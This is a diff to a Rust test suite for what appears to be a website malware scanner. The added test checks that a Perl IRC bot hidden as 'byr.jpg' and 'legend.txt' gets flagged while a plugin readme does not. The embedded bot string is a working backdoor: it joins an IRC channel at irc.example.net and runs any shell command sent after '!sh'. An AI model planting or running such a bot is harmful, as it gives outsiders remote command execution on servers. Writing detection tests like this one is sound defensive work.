@@ -779,6 +779,29 @@ fn a_cgi_shell_under_a_made_up_ending_is_found_and_a_licence_is_not() {
     assert!(reasons("LICENSE").is_empty() && reasons("run").is_empty(), "{v}");
 }
 
+/// An IRC bot kept as text or under a picture's name (started with `perl byr.jpg`) is read as
+/// the program it is; a plugin's readme is not a finding (regression: fresh95's bots were
+/// never opened).
+#[test]
+fn a_perl_bot_kept_as_text_or_a_picture_is_found_and_a_readme_is_not() {
+    let tmp = tempfile::tempdir().unwrap();
+    let site = tmp.path().join("public_html");
+    std::fs::create_dir_all(site.join("images")).unwrap();
+    let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nUSER b b b b\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s \"PRIVMSG #c :\" . `$1`; } }\n";
+    std::fs::write(site.join("images/byr.jpg"), bot).unwrap();
+    std::fs::write(site.join("legend.txt"), bot).unwrap();
+    std::fs::write(site.join("readme.txt"), "=== Contact ===\nContributors: shop\nStable tag: 1.2\n").unwrap();
+    let v = scan_json_finding_something(tmp.path(), &site);
+    let found = |name: &str| {
+        v["findings"].as_array().unwrap().iter().any(|f| {
+            f["path"].as_str().unwrap().ends_with(name)
+                && f["reasons"].as_array().unwrap().iter().any(|r| r["why"] == "network_bot")
+        })
+    };
+    assert!(found("images/byr.jpg") && found("legend.txt"), "{v}");
+    assert!(!v.to_string().contains("readme.txt"), "{v}");
+}
+
 /// A fake plugin that keeps an intruder's administrator out of the list of users is on the
 /// customer's review in their words and is quarantined in one click; an ordinary plugin that
 /// uses the same hooks for its settings link stays.
